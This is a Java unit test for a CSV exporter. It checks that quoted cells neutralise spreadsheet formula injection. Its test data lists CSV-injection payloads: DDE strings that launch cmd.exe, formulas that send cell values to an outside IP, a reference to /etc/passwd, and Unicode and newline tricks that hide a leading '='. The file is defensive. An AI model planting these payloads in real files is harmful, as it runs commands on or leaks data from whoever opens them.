package io.tunnelscope.app.audit;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class CsvTest {
  /** What spreadsheets calculate, fetch or start, and how it is hidden from careless writers. */
  static Stream<String> formulas() {
    return Stream.of(
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "=",
        "-2+3+cmd|' /C calc'!D2",
        "=cmd|' /C calc'!A0",
        "+cmd|'/C notepad'!A1",
        "@cmd|' /C calc'!A0",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        "=HYPERLINK(\"http://198.51.100.1/?\"&A1,\"x\")",
        "=WEBSERVICE(\"http://198.51.100.1/\"&B2)",
        "=IMPORTXML(\"http://198.51.100.1\",\"//a\")",
        "=IMPORTDATA(\"http://198.51.100.1\")",
        "=IMAGE(\"http://198.51.100.1/x.png\")",
        "=FILTERXML(A1,B1)",
        "='file:///etc/passwd'#$passwd.A1",
        "=SUM(1,2)*3",
        "=-1",
        "--1",
        "+-@x",
        "  =1+1",
        "\u00a0=1",
        "\u2003=1",
        "\u3000=1",
        "\u200b=1",
        "\u2060=1",
        "\u202e=1",
        "\ufeff=1",
        " \u200b \ufeff+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
        " \uff1d1",
        "\t=1",
        "\tx",
        "\rx",
        "\r\n=1",
        "\n=1",
        "\n\n  -1",
        "a\n=1",
        "a\r\n=1",
        "a\r+1",
        "a\n  @x",
        "a\n\t=1",
        "a\u2028=1",
        "a\u2029=1",
        "a\u0085=1",
        "a\n\u200b=1",
        "a\n\uff1d1",
        "\",\"=1",
        "\"=1\"",
        "\"\n=1",
        "\",\"\"\r\n=1,\"",
        "a\",=1+1,\"b",
        "';=1",
        "a;=1\n=2");
  }

  @ParameterizedTest
  @MethodSource("formulas")
  void shouldBeTextForASpreadsheetOnEveryLine(String cell) {
    // When
    var row = Csv.row(List.of("before", cell, "after"));

    // Then
    var cells = read(row);
    assertThat(cells).hasSize(3).startsWith("before").endsWith("after");
    assertThat(cells.get(1).split("[\\r\\n\\u0085\\u2028\\u2029]", -1))
        .noneMatch(
            line -> line.matches("(?s)[\\s\\p{Z}\\p{Cf}]*[=+\\-@\uff1d\uff0b\uff0d\uff20].*"))
        .noneMatch(line -> line.startsWith("\t"));
    assertThat(cells.get(1).replace("'", "")).isEqualTo(cell.replace("'", ""));
  }

  @Test
  void shouldBeTriedWithFortyFormulasAndMore() {
    assertThat(formulas().distinct()).hasSizeGreaterThanOrEqualTo(40);
  }

  /** As RFC 4180 says: cells in quotes, a quote as two. */
  private static List<String> read(String row) {
    assertThat(row).startsWith("\"").endsWith("\"\r\n");
    var cells = new ArrayList<String>();
    var cell = new StringBuilder();
    boolean quoted = false;
    for (int at = 0; at < row.length() - 2; at++) {
      char c = row.charAt(at);
      if (c != '"') {
        assertThat(quoted || c == ',').as("a separator stands between cells").isTrue();
        cell.append(quoted ? String.valueOf(c) : "");
      } else if (quoted && row.charAt(at + 1) == '"') {
        cell.append('"');
        at++;
      } else {
        quoted = !quoted;
        if (!quoted) {
          cells.add(cell.toString());
          cell.setLength(0);
        }
      }
    }
    return cells;
  }

  @Test
  void shouldQuoteEverythingAndDoubleQuotes() {
    assertThat(Csv.row(List.of("a,b", "say \"x\"", "", "2026-11-26", "a-b", "한국어")))
        .isEqualTo("\"a,b\",\"say \"\"x\"\"\",\"\",\"2026-11-26\",\"a-b\",\"한국어\"\r\n");
  }
}
